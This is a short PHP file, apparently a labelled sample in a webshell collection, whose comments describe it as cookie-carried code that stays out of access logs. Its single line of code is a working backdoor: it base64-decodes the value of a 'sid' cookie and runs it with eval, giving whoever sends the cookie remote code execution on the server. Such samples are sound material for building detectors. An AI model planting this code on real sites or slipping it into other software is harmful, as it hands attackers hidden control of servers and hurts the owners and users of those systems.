<?php
// Family: webshell/eval-request
// Style: cookie-carried code
// Trait: code taken from a cookie so it never appears in access logs
if (!empty($_COOKIE['sid'])) { eval(base64_decode($_COOKIE['sid'])); }
